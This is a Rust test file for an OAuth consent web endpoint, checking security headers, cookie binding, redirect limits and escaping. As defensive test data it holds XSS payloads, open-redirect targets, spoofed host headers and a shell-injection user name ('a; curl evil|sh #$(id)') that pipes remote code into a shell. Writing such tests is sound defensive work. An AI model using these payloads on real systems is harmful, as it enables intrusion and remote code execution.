//! The door from outside, without sockets: requests in, answers out, a scripted far side.

use std::{
    collections::{HashMap, HashSet},
    pin::Pin,
    sync::{Arc, Mutex},
    task::{Context, Poll},
};

use bearerd_control::{BegunConsent, Callback, ConsentFault, LinkPage};
use bearerd_model::{
    ConnectionId, ConsentOutcome, ConsentResult, InstanceOrigin, IntegrationId, SecretText, UnixTime,
};
use bearerd_net::{ListenSettings, Listener};
use bytes::Bytes;
use http::{Method, Request, Response, StatusCode};
use http_body_util::{BodyExt, Full};
use proptest::prelude::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_util::sync::CancellationToken;

use crate::{ConnectDoor, ConnectSettings, Consents, Router, router::REQUESTS_MAX};

const HTTPS: &str = "https://connect.example";
const HTTP: &str = "http://127.0.0.1:8081";
const INSTANCE: &str = "https://hr.service-now.com";

/// A control of one link, whose flows end as the test says.
#[derive(Debug)]
struct Script {
    page: LinkPage,
    /// Spent links.
    spent: Mutex<HashSet<String>>,
    /// The cookie's value of each flow that runs, by `state`.
    flows: Mutex<HashMap<String, String>>,
    exchanges: Mutex<u32>,
    result: ConsentResult,
    /// What every act fails with.
    fault: Option<ConsentFault>,
}

impl Script {
    fn new(result: ConsentResult) -> Self {
        let page = LinkPage {
            connection: ConnectionId::parse("hr-prod").unwrap(),
            integration: IntegrationId::parse("hr").unwrap(),
            instance: InstanceOrigin::parse(INSTANCE).unwrap(),
            authorization_origin: INSTANCE.to_owned(),
            requested_by: "maria".to_owned(),
            expected_user: Some("abel.tuter".to_owned()),
            scopes: vec!["useraccount".to_owned()],
            expires_at: UnixTime::from_secs(1_795_271_520),
        };
        Self {
            page,
            spent: Mutex::default(),
            flows: Mutex::default(),
            exchanges: Mutex::default(),
            result,
            fault: None,
        }
    }

    fn refused(&self) -> Result<(), ConsentFault> {
        self.fault.clone().map_or(Ok(()), Err)
    }
}

impl Consents for Script {
    async fn link_page(&self, link: &SecretText) -> Result<LinkPage, ConsentFault> {
        self.refused()?;
        let usable = link.expose().starts_with("good") && !self.spent.lock().unwrap().contains(link.expose());
        if usable { Ok(self.page.clone()) } else { Err(ConsentFault::LinkInvalid) }
    }

    async fn begin_consent(&self, link: &SecretText) -> Result<BegunConsent, ConsentFault> {
        self.link_page(link).await?;
        self.spent.lock().unwrap().insert(link.expose().to_owned());
        let mut flows = self.flows.lock().unwrap();
        let number = flows.len() + 1;
        let (state, value) = (format!("5tate{number}"), format!("v{number}"));
        flows.insert(state.clone(), value.clone());
        Ok(BegunConsent {
            authorization_url: format!("{INSTANCE}/oauth_auth.do?response_type=code&state={state}"),
            cookie_name: self.consent_cookie_name(&SecretText::parse(state).unwrap()),
            cookie_value: SecretText::parse(value).unwrap(),
        })
    }

    fn consent_cookie_name(&self, state: &SecretText) -> String {
        format!("bearerd-{}", state.expose().trim_start_matches("5tate"))
    }

    async fn finish_consent(&self, callback: Callback) -> Result<ConsentOutcome, ConsentFault> {
        self.refused()?;
        let state = callback.state.ok_or(ConsentFault::StateInvalid)?;
        let flow = self.flows.lock().unwrap().remove(state.expose()).ok_or(ConsentFault::StateInvalid)?;
        let cookie_name = self.consent_cookie_name(&state);
        let ours = |(name, value): &(String, SecretText)| *name == cookie_name && value.expose() == flow;
        if !callback.cookies.iter().any(ours) {
            return Err(ConsentFault::OtherBrowser);
        }
        if callback.path_integration.is_some_and(|id| id != "hr") {
            return Err(ConsentFault::OtherIntegration);
        }
        if callback.code.is_none() && callback.error.is_none() {
            return Err(ConsentFault::MalformedCallback);
        }
        *self.exchanges.lock().unwrap() += u32::from(callback.code.is_some());
        Ok(self.consent_outcome("outcome1").await.unwrap())
    }

    async fn consent_outcome(&self, id: &str) -> Option<ConsentOutcome> {
        let outcome = ConsentOutcome {
            id: id.to_owned(),
            result: self.result.clone(),
            expires_at: UnixTime::from_secs(0),
        };
        (id == "outcome1").then_some(outcome)
    }
}

fn connected() -> ConsentResult {
    ConsentResult::Connected {
        connection: ConnectionId::parse("hr-prod").unwrap(),
        instance: InstanceOrigin::parse(INSTANCE).unwrap(),
        user: "Abel Tuter".to_owned(),
        user_name: "abel.tuter".to_owned(),
        awaits_confirmation: true,
    }
}

fn failed(detail: &str) -> ConsentResult {
    ConsentResult::Failed {
        code: "client_refused".to_owned(),
        message: "ServiceNow refused.".to_owned(),
        fix: "Set the client secret anew.".to_owned(),
        detail: Some(detail.to_owned()),
        error_id: "e1d".to_owned(),
    }
}

/// A door with its script and a browser's cookies.
struct Bench {
    router: Router<Script>,
    script: Arc<Script>,
}

/// An answer, read.
struct Answer {
    status: StatusCode,
    headers: http::HeaderMap,
    body: String,
}

impl Answer {
    #[track_caller]
    fn header(&self, name: &str) -> &str {
        self.headers.get(name).map_or("", |value| value.to_str().unwrap())
    }

    /// `name=value` of what the door set.
    fn cookie(&self) -> String {
        self.header("set-cookie").split(';').next().unwrap_or_default().to_owned()
    }
}

impl Bench {
    fn with(public_url: &str, script: Script) -> Self {
        let settings = ConnectSettings { public_url: public_url.to_owned(), ..ConnectSettings::default() };
        let script = Arc::new(script);
        Self { router: Router::new(&settings, Arc::clone(&script)).unwrap(), script }
    }

    fn https() -> Self {
        Self::with(HTTPS, Script::new(connected()))
    }

    async fn send(&self, method: &str, target: &str, headers: &[(&str, &str)]) -> Answer {
        self.send_body(method, target, headers, "").await
    }

    async fn send_body(&self, method: &str, target: &str, headers: &[(&str, &str)], body: &str) -> Answer {
        let mut request = Request::builder().method(method).uri(target);
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let body = Full::new(Bytes::copy_from_slice(body.as_bytes()));
        read(self.router.handle(request.body(body).unwrap()).await).await
    }

    async fn get(&self, target: &str) -> Answer {
        self.send("GET", target, &[]).await
    }

    /// A POST as Chromium sends it from our page.
    async fn begin(&self, link: &str) -> Answer {
        let headers = [("origin", "null"), ("sec-fetch-site", "same-origin")];
        self.send("POST", &format!("/connect/{link}"), &headers).await
    }

    async fn callback(&self, query: &str, cookies: &str) -> Answer {
        self.send("GET", &format!("/oauth/callback?{query}"), &[("cookie", cookies)]).await
    }

    fn exchanges(&self) -> u32 {
        *self.script.exchanges.lock().unwrap()
    }
}

async fn read(response: Response<Full<Bytes>>) -> Answer {
    let (head, body) = response.into_parts();
    let body = body.collect().await.unwrap().to_bytes();
    Answer { status: head.status, headers: head.headers, body: String::from_utf8(body.into()).unwrap() }
}

#[tokio::test]
async fn a_consent_runs_from_link_to_result() {
    let bench = Bench::https();
    let page = bench.get("/connect/good").await;
    assert_eq!(page.status, 200);
    for shown in [
        "hr.service-now.com",
        "hr-prod",
        "maria",
        "abel.tuter",
        "useraccount",
        "UTC",
        "<form method=\"post\">",
    ] {
        assert!(page.body.contains(shown), "{shown}");
    }
    let begun = bench.begin("good").await;
    assert_eq!(begun.status, 303);
    assert!(begun.header("location").starts_with("https://hr.service-now.com/oauth_auth.do?"));
    let back = bench.callback("code=c0de&state=5tate1", &begun.cookie()).await;
    assert_eq!((back.status, back.header("location")), (StatusCode::SEE_OTHER, "/connect/done/outcome1"));
    let done = bench.get(back.header("location")).await;
    assert_eq!(done.status, 200);
    for shown in [
        "hr.service-now.com",
        "Abel Tuter",
        "bearerd connection confirm hr-prod --user abel.tuter</code>",
        "<svg",
    ] {
        assert!(done.body.contains(shown), "{shown}");
    }
}

/// O-28 to O-31: every kind of answer, by route table, carries the whole set.
#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    for public_url in [HTTPS, HTTP] {
        let bench = Bench::with(public_url, Script::new(failed("x")));
        let mut answers = Vec::new();
        for target in [
            "/connect/good",
            "/connect/bad",
            "/connect/a%20b",
            "/connect/done/outcome1",
            "/connect/done/none",
            "/oauth/callback",
            "/oauth/callback/hr",
            "/oauth/callback?code=a&state=b",
            "/oauth/callback?code=a&code=a",
            "/",
            "/favicon.ico",
            "/v1/status",
        ] {
            for method in ["GET", "HEAD", "POST", "DELETE", "OPTIONS"] {
                answers.push((format!("{method} {target}"), bench.send(method, target, &[]).await));
            }
        }
        answers.push(("begin".to_owned(), bench.begin("good2").await));
        answers.push(("back".to_owned(), bench.callback("code=a&state=5tate2", "").await));
        for (what, answer) in answers {
            for (name, value) in [
                ("cache-control", "no-store"),
                ("referrer-policy", "no-referrer"),
                ("x-content-type-options", "nosniff"),
                ("x-frame-options", "DENY"),
                ("cross-origin-opener-policy", "same-origin"),
                ("x-robots-tag", "noindex, nofollow"),
            ] {
                assert_eq!(answer.header(name), value, "{name} of {what}");
            }
            assert_eq!(answer.header("strict-transport-security").is_empty(), public_url == HTTP, "{what}");
            let policy = answer.header("content-security-policy");
            let base = policy.split_once("; form-action ").map_or("", |(base, _)| base);
            assert!(base.starts_with("default-src 'none'; style-src 'sha256-"), "{what}: {policy}");
            assert!(base.ends_with("'; frame-ancestors 'none'; base-uri 'none'"), "{what}: {policy}");
            assert!(!policy.contains("unsafe") && !policy.contains('*'), "{what}: {policy}");
            assert_eq!(answer.header("x-request-id").len(), 16, "{what}");
            assert!(!answer.status.is_redirection() || answer.status == 303, "O-27: {what}");
            if !answer.body.is_empty() {
                check_page(&what, &answer);
            }
        }
    }
}

/// O-28: no script, nothing from outside, and every page says where it may lead.
#[track_caller]
fn check_page(what: &str, answer: &Answer) {
    assert_eq!(answer.header("content-type"), "text/html; charset=utf-8", "{what}");
    let inner = answer.body.split("<body>").nth(1).unwrap();
    for absent in
        ["<script", "javascript:", " src=", " href=", "url(", "@import", " style=", "http://", "https://"]
    {
        assert!(!inner.contains(absent), "{absent} in {what}");
    }
    for present in ["<!doctype html>", "<html lang=\"en\">", "name=\"viewport\"", "noindex"] {
        assert!(answer.body.contains(present), "{present} in {what}");
    }
    let form_action = answer.header("content-security-policy").split("; form-action ").nth(1).unwrap();
    let expected =
        if answer.body.contains("<form") { format!("'self' {INSTANCE} https:") } else { "'none'".to_owned() };
    assert_eq!(form_action, expected, "{what}");
}

/// O-28: the hash is that of the only style, byte for byte.
#[tokio::test]
async fn the_policy_admits_the_style_and_nothing_else() {
    use base64::{Engine, engine::general_purpose::STANDARD};
    let page = Bench::https().get("/connect/good").await;
    let style = page.body.split("<style>").nth(1).unwrap().split("</style>").next().unwrap();
    let hash = STANDARD.encode(bearerd_crypto::sha256(style.as_bytes()));
    assert!(page.header("content-security-policy").contains(&format!("style-src 'sha256-{hash}';")));
    assert_eq!(page.body.matches("<style").count(), 1);
}

/// An instance on loopback (development) has no sign-in pages elsewhere: nothing beyond it is admitted.
#[tokio::test]
async fn a_plain_instance_admits_itself_only() {
    let mut script = Script::new(connected());
    script.page.instance = InstanceOrigin::parse("http://127.0.0.1:9000").unwrap();
    script.page.authorization_origin = "http://127.0.0.1:9000".to_owned();
    let page = Bench::with(HTTP, script).get("/connect/good").await;
    assert!(page.header("content-security-policy").ends_with("; form-action 'self' http://127.0.0.1:9000"));
}

/// The form leads to the authorization endpoint, wherever the integration has it.
#[tokio::test]
async fn an_authorization_endpoint_elsewhere_is_admitted_in_place_of_the_instance() {
    let mut script = Script::new(connected());
    script.page.authorization_origin = "https://sso.example:8443".to_owned();
    let page = Bench::with(HTTPS, script).get("/connect/good").await;
    let policy = page.header("content-security-policy");
    assert!(policy.ends_with("; form-action 'self' https://sso.example:8443 https:"), "{policy}");
    assert!(page.body.contains("hr.service-now.com"), "the person is told of the instance");
}

/// O-05: what the browser is told to keep, at https and on loopback.
#[tokio::test]
async fn a_flow_begins_with_its_cookie() {
    for (public_url, expected) in [
        (HTTPS, "__Host-bearerd-1=v1; Path=/; Max-Age=600; HttpOnly; SameSite=Lax; Secure"),
        (HTTP, "bearerd-1=v1; Path=/; Max-Age=600; HttpOnly; SameSite=Lax"),
    ] {
        let begun = Bench::with(public_url, Script::new(connected())).begin("good").await;
        assert_eq!(begun.header("set-cookie"), expected);
    }
}

/// O-02, O-03: no cookie, another flow's, a truncated one, or one that a neighbour planted.
#[tokio::test]
async fn a_callback_needs_the_cookie_of_its_flow() {
    for cookies in ["", "__Host-bearerd-2=v2", "__Host-bearerd-1=v", "__Host-bearerd-1=v2", "bearerd-1=v1"] {
        let bench = Bench::https();
        bench.begin("good").await;
        bench.begin("good2").await;
        let back = bench.callback("code=c&state=5tate1", cookies).await;
        assert_eq!(back.status, 400, "{cookies}");
        assert!(back.body.contains("other_browser") && back.headers.get("location").is_none(), "{cookies}");
        assert_eq!(bench.exchanges(), 0);
    }
}

/// O-56, and the cookie is cleared by its own callback only.
#[tokio::test]
async fn two_flows_in_one_browser_do_not_meet() {
    let bench = Bench::https();
    let (one, two) = (bench.begin("good1").await.cookie(), bench.begin("good2").await.cookie());
    let jar = format!("theme=dark; {one}; {two}");
    let back = bench.callback("code=c&state=5tate2", &jar).await;
    assert_eq!(back.status, 303);
    assert!(back.header("set-cookie").starts_with("__Host-bearerd-2=; Path=/; Max-Age=0;"));
    let back = bench.callback("code=c&state=5tate1", &one).await;
    assert!(back.header("set-cookie").starts_with("__Host-bearerd-1=; Path=/; Max-Age=0;"));
    assert_eq!((back.status, bench.exchanges()), (StatusCode::SEE_OTHER, 2));
}

/// O-07: an answer that is no answer, or an error, burns the flow; a good code comes too late then.
#[tokio::test]
async fn any_callback_burns_its_flow() {
    for (first, status) in [
        ("error=access_denied&state=5tate1", 303),
        ("code=a&error=b&state=5tate1", 400),
        ("code=a&code=b&state=5tate1", 400),
        ("code=%ff&state=5tate1", 400),
        ("state=5tate1", 400),
    ] {
        let bench = Bench::https();
        let cookie = bench.begin("good").await.cookie();
        let back = bench.callback(first, &cookie).await;
        assert_eq!(back.status, status, "{first}");
        assert!(back.header("set-cookie").contains("Max-Age=0"), "{first}");
        let late = bench.callback("code=c&state=5tate1", &cookie).await;
        assert_eq!((late.status, bench.exchanges()), (StatusCode::BAD_REQUEST, 0), "{first}");
        assert!(late.body.contains("state_invalid"), "{first}");
    }
}

/// O-10: each malformed query is refused, with a page.
#[tokio::test]
async fn a_malformed_callback_is_a_400() {
    let bench = Bench::https();
    let long = format!("code={}&state=s", "x".repeat(9_000));
    for query in [
        "",
        "code=c",
        "state=s",
        "code=c&state=s&state=s",
        "code=c&code=c&state=s",
        "error=e&error=e&state=s",
        "iss=i&iss=i&code=c&state=s",
        "code=c&error=e&state=s",
        "code=c&state=%zz",
        "error=%ff&state=s",
        "code=c&state=unknown",
        &long,
    ] {
        let back = bench.callback(query, "").await;
        assert_eq!(back.status, 400, "{query}");
        assert!(back.headers.get("location").is_none() && back.body.contains("Error id"), "{query}");
    }
}

/// O-17, in this door's part: the path's integration reaches the control; a path that names none is not there.
#[tokio::test]
async fn the_callback_path_names_the_integration() {
    for (path, status) in [("hr", 303), ("other", 400), ("HR", 404), ("hr/", 404), ("..%2fhr", 404)] {
        let bench = Bench::https();
        let cookie = bench.begin("good").await.cookie();
        let target = format!("/oauth/callback/{path}?code=c&state=5tate1");
        assert_eq!(bench.send("GET", &target, &[("cookie", &cookie)]).await.status, status, "{path}");
    }
}

/// O-16: names that a request claims for us change nothing.
#[tokio::test]
async fn no_address_comes_from_the_request() {
    let headers = [
        ("host", "evil.example"),
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-proto", "http"),
        ("forwarded", "host=evil.example;proto=http"),
        ("x-original-url", "//evil.example"),
    ];
    let bench = Bench::https();
    for target in
        ["/connect/good", "http://evil.example/connect/good", "/connect/done/outcome1", "/connect/bad"]
    {
        let answer = bench.send("GET", target, &headers).await;
        assert!(!answer.body.contains("evil"), "{target}");
        assert!(answer.headers.values().all(|value| !value.to_str().unwrap().contains("evil")), "{target}");
    }
    let begun = bench.send("POST", "/connect/good", &headers).await;
    assert!(begun.header("location").starts_with(INSTANCE));
    assert!(begun.header("set-cookie").starts_with("__Host-"));
}

/// O-24: mail scanners look at links; only a POST from our page uses one up.
#[tokio::test]
async fn looking_does_not_use_a_link_up() {
    let bench = Bench::https();
    for method in ["GET", "HEAD", "GET", "OPTIONS", "PUT"] {
        bench.send(method, "/connect/good", &[("user-agent", "LinkScanner/1.0")]).await;
    }
    let foreign = [("origin", "https://evil.example"), ("sec-fetch-site", "cross-site")];
    let refused = bench.send("POST", "/connect/good", &foreign).await;
    assert_eq!((refused.status, refused.cookie()), (StatusCode::FORBIDDEN, String::new()));
    assert!(refused.body.contains("cross_site_refused"));
    let oversized = bench.send_body("POST", "/connect/good", &[], &"x".repeat(5_000)).await;
    assert_eq!(oversized.status, 413);
    assert_eq!(bench.begin("good").await.status, 303);
    for method in ["GET", "POST"] {
        let used = bench.send(method, "/connect/good", &[]).await;
        assert_eq!(used.status, 410);
        assert!(used.body.contains("connect_link_invalid"));
    }
}

/// A used link, an unknown one and nonsense answer alike.
#[tokio::test]
async fn a_link_that_does_not_work_says_no_more() {
    let bench = Bench::https();
    bench.begin("good").await;
    let plain = |answer: Answer| answer.body.replace(answer.header("x-request-id"), "");
    let used = plain(bench.get("/connect/good").await);
    assert_eq!(used, plain(bench.get("/connect/unknown").await));
    assert_eq!(used, plain(bench.get("/connect/%00%ff").await));
    assert_eq!(used, plain(bench.get(&format!("/connect/{}", "x".repeat(4_000))).await));
}

/// O-25, O-26, O-27: whatever is asked for, `Location` is the instance's authorization endpoint or our result page,
/// with 303.
#[tokio::test]
async fn a_redirect_goes_to_a_known_place() {
    let places = [
        "https://evil.example",
        "//evil.example",
        "/%5Cevil.example",
        "https:evil.example",
        "https://connect.example@evil.example",
        "https://connect.example.evil.example",
        "%2f%2fevil.example",
        "javascript:alert(1)",
        "https://connect.example/connect/done/outcome1",
    ];
    for place in places {
        for name in ["return_url", "redirect_uri", "next", "url", "error_uri"] {
            let bench = Bench::https();
            let begun = bench.send("POST", &format!("/connect/good?{name}={place}"), &[]).await;
            assert_eq!(begun.status, 303);
            assert!(begun.header("location").starts_with("https://hr.service-now.com/oauth_auth.do?"));
            let cookie = begun.cookie();
            let query = format!("error=access_denied&state=5tate1&{name}={place}");
            let back = bench.callback(&query, &cookie).await;
            assert_eq!(
                (back.status, back.header("location")),
                (StatusCode::SEE_OTHER, "/connect/done/outcome1")
            );
            let done = bench.get(&format!("/connect/done/outcome1?{name}={place}")).await;
            assert!(done.headers.get("location").is_none() && !done.body.contains("evil"));
            let unknown = bench.callback(&query, &cookie).await;
            assert!(
                unknown.headers.get("location").is_none() && !unknown.body.contains("evil"),
                "{name}={place}"
            );
        }
    }
}

/// O-29: the address that stays in the browser's history holds neither code nor state.
#[tokio::test]
async fn the_result_has_a_clean_address() {
    let bench = Bench::https();
    let cookie = bench.begin("good").await.cookie();
    let back = bench.callback("code=c0de&state=5tate1", &cookie).await;
    assert!(!back.header("location").contains("c0de") && !back.header("location").contains("5tate"));
    assert!(back.body.is_empty());
    assert_eq!(back.header("referrer-policy"), "no-referrer");
}

/// O-32: what the server or the user table says is text: escaped, cut, not linked.
#[tokio::test]
async fn hostile_text_is_shown_as_text() {
    let payloads = [
        "<script>alert(1)</script>".to_owned(),
        "\"><img src=x onerror=alert(1)>".to_owned(),
        "'-alert(1)-'</pre></details><form action=https://evil.example>".to_owned(),
        "</style><style>@import 'https://evil.example'".to_owned(),
        "a\r\nSet-Cookie: evil=1\r\n\r\n<html>".to_owned(),
        "https://evil.example/click-here".to_owned(),
        "\u{202e}gnp.exe\u{0}\u{7f}".to_owned(),
        "&lt;script&gt; {{ 7*7 }} ${7*7}".to_owned(),
        "<b>".repeat(22_000),
    ];
    for payload in payloads {
        let mut scripts = [Script::new(failed(&payload)), Script::new(connected()), Script::new(connected())];
        if let ConsentResult::Failed { message, fix, .. } = &mut scripts[0].result {
            message.clone_from(&payload);
            fix.clone_from(&payload);
        }
        if let ConsentResult::Connected { user, user_name, .. } = &mut scripts[1].result {
            user.clone_from(&payload);
            *user_name = format!("x{payload}");
        }
        scripts[2].page.requested_by.clone_from(&payload);
        scripts[2].page.expected_user = Some(payload.clone());
        scripts[2].page.scopes = vec![payload.clone()];
        let targets = ["/connect/done/outcome1", "/connect/done/outcome1", "/connect/good"];
        for (script, target) in scripts.into_iter().zip(targets) {
            let page = Bench::with(HTTPS, script).get(target).await;
            let inner = page.body.split("<body>").nth(1).unwrap();
            for absent in [
                "<script",
                "<img",
                "<b>x",
                "<b><b>",
                "<style",
                "<html>",
                "evil.example>",
                "<a ",
                "\r",
                "\0",
                "\u{202e}",
            ] {
                assert!(!inner.contains(absent), "{absent:?} of {payload:.30}");
            }
            assert_eq!(
                inner.matches("<form").count(),
                usize::from(target == "/connect/good"),
                "{payload:.30}"
            );
            assert!(page.body.len() < 24_000, "{} bytes", page.body.len());
            assert!(page.headers.get("set-cookie").is_none());
        }
    }
}

/// Who consented is named once where the instance has one name only, or where the outcome is an old one.
#[tokio::test]
async fn the_result_names_who_consented() {
    for (named, user_named, shown, confirmed) in [
        ("Abel Tuter", "abel.tuter", "Abel Tuter (abel.tuter)", "abel.tuter"),
        ("abel.tuter", "abel.tuter", "abel.tuter", "abel.tuter"),
        ("", "abel.tuter", "abel.tuter", "abel.tuter"),
        ("Abel Tuter", "", "Abel Tuter", "&#39;Abel Tuter&#39;"),
    ] {
        let mut script = Script::new(connected());
        if let ConsentResult::Connected { user, user_name, .. } = &mut script.result {
            named.clone_into(user);
            user_named.clone_into(user_name);
        }
        let page = Bench::with(HTTPS, script).get("/connect/done/outcome1").await;
        let who = page.body.split("<span>as</span>").nth(1).unwrap().split("</p>").next().unwrap();
        assert_eq!(text_of(who), shown);
        assert!(page.body.contains(&format!("--user {confirmed}</code>")), "{named:?} {user_named:?}");
    }
}

/// Markup taken away.
fn text_of(html: &str) -> String {
    let texts = html.split('<').map(|piece| piece.split_once('>').map_or(piece, |(_tag, text)| text));
    texts.collect::<String>().trim().to_owned()
}

/// A user name is copied into a shell by an operator: it must stay one argument there.
#[tokio::test]
async fn the_command_on_the_page_is_safe_to_copy() {
    let mut script = Script::new(connected());
    if let ConsentResult::Connected { user_name, .. } = &mut script.result {
        "a; curl evil|sh #$(id)".clone_into(user_name);
    }
    let page = Bench::with(HTTPS, script).get("/connect/done/outcome1").await;
    assert!(page.body.contains("--user &#39;a; curl evil|sh #$(id)&#39;</code>"), "{}", page.body);
}

/// What a fault looks like from outside: status, code, `Retry-After`.
#[tokio::test]
async fn each_fault_has_its_status_and_code() {
    for (fault, status) in [
        (ConsentFault::LinkInvalid, 410),
        (ConsentFault::StateInvalid, 400),
        (ConsentFault::OtherBrowser, 400),
        (ConsentFault::OtherIntegration, 400),
        (ConsentFault::MalformedCallback, 400),
        (ConsentFault::StoreUnavailable, 503),
    ] {
        let script = Script { fault: Some(fault.clone()), ..Script::new(connected()) };
        let bench = Bench::with(HTTPS, script);
        let back = bench.callback("code=c&state=5tate1", "__Host-bearerd-1=v1").await;
        assert_eq!(back.status, status, "{fault:?}");
        assert!(
            back.body.contains(fault.code()) && back.body.contains(back.header("x-request-id")),
            "{fault:?}"
        );
        assert_eq!(back.header("retry-after").is_empty(), status != 503, "{fault:?}");
        assert_eq!(back.header("set-cookie").is_empty(), status == 503, "the flow may live on: {fault:?}");
        assert_eq!(bench.get("/connect/good").await.status, status, "{fault:?}");
    }
}

#[tokio::test]
async fn other_methods_are_told_what_is_allowed() {
    let bench = Bench::https();
    for (target, allow) in [
        ("/connect/good", "GET, HEAD, POST"),
        ("/oauth/callback", "GET"),
        ("/oauth/callback/hr", "GET"),
        ("/connect/done/outcome1", "GET, HEAD"),
    ] {
        let answer = bench.send("DELETE", target, &[]).await;
        assert_eq!(
            (answer.status, answer.header("allow")),
            (StatusCode::METHOD_NOT_ALLOWED, allow),
            "{target}"
        );
    }
    let head = bench.send("HEAD", "/oauth/callback?code=c&state=s", &[]).await;
    assert_eq!(head.status, 405, "a HEAD must not burn a flow");
    assert_eq!(bench.send("DELETE", "/", &[]).await.status, 404);
}

/// A body that does not come to its end.
enum Stuck {
    Silent,
    Broken,
}

impl http_body::Body for Stuck {
    type Data = Bytes;
    type Error = std::io::Error;

    fn poll_frame(
        self: Pin<&mut Self>,
        _context: &mut Context<'_>,
    ) -> Poll<Option<Result<http_body::Frame<Bytes>, std::io::Error>>> {
        match *self {
            Self::Silent => Poll::Pending,
            Self::Broken => Poll::Ready(Some(Err(std::io::ErrorKind::ConnectionReset.into()))),
        }
    }
}

/// A body that breaks off, or never ends, has not been sent: the link is good still.
#[tokio::test(start_paused = true)]
async fn a_post_that_does_not_arrive_uses_nothing_up() {
    let bench = Bench::https();
    let post = |body: Stuck| {
        let mut request = Request::new(body);
        *request.method_mut() = Method::POST;
        *request.uri_mut() = "/connect/good".parse().unwrap();
        request
    };
    assert_eq!(read(bench.router.handle(post(Stuck::Silent)).await).await.status, 408);
    assert_eq!(read(bench.router.handle(post(Stuck::Broken)).await).await.status, 400);
    assert_eq!(bench.begin("good").await.status, 303);
}

/// Requests beyond the bound are told to come back, at once; when one ends there is room again.
#[tokio::test(start_paused = true)]
async fn more_requests_than_places_are_refused() {
    let bench = Bench::https();
    let waiting: Vec<_> = (0..REQUESTS_MAX)
        .map(|_| {
            let router = bench.router.clone();
            let post = Request::post("/connect/good").body(Stuck::Silent).unwrap();
            tokio::spawn(async move { router.handle(post).await.status() })
        })
        .collect();
    // The tasks start while this one yields, a batch at a time; the clock stands still meanwhile.
    let mut refused = bench.get("/connect/good").await;
    while refused.status == StatusCode::OK {
        tokio::task::yield_now().await;
        refused = bench.get("/connect/good").await;
    }
    assert_eq!((refused.status, refused.header("retry-after")), (StatusCode::SERVICE_UNAVAILABLE, "5"));
    assert!(refused.body.contains("overloaded"));
    for task in waiting {
        assert_eq!(task.await.unwrap(), 408);
    }
    assert_eq!(bench.get("/connect/good").await.status, 200);
}

/// The door on a real socket, until it is told to close.
#[tokio::test]
async fn the_door_serves_until_shutdown() {
    let settings = ConnectSettings::default();
    let listen = ListenSettings::at("127.0.0.1:0");
    let listener = Listener::bind(&listen, ConnectDoor::ALPN).unwrap();
    let address = listener.address().tcp().unwrap();
    let shutdown = CancellationToken::new();
    let script = Arc::new(Script::new(connected()));
    let door = ConnectDoor::start(listener, &settings, script, shutdown.clone()).unwrap();
    let mut socket = tokio::net::TcpStream::connect(address).await.unwrap();
    let head = b"HEAD /connect/good HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n";
    socket.write_all(head).await.unwrap();
    let mut answer = String::new();
    socket.read_to_string(&mut answer).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 200 OK\r\n") && answer.ends_with("\r\n\r\n"), "{answer}");
    assert!(answer.contains("content-security-policy: default-src 'none'"), "{answer}");
    shutdown.cancel();
    door.closed().await.unwrap();
}

proptest! {
    /// O-32: no request makes the door panic, and no answer leaves without its headers.
    #[test]
    fn any_request_is_answered(
        path in "/(connect|oauth/callback|connect/done|x)?(/[!-~]{0,12})?",
        query in "[!-~]{0,60}",
        cookie in proptest::collection::vec(0x20_u8..=0xff, 0..60),
        post in any::<bool>(),
    ) {
        let method = if post { Method::POST } else { Method::GET };
        let built = Request::builder().method(method).uri(format!("{path}?{query}")).header("cookie", &cookie[..]);
        if let Ok(request) = built.body(Full::<Bytes>::default()) {
            let bench = Bench::https();
            let runtime = tokio::runtime::Builder::new_current_thread().enable_time().build().unwrap();
            let answer = runtime.block_on(bench.router.handle(request));
            prop_assert!(!answer.status().is_server_error());
            prop_assert!(answer.headers().contains_key("content-security-policy"));
        }
    }
}
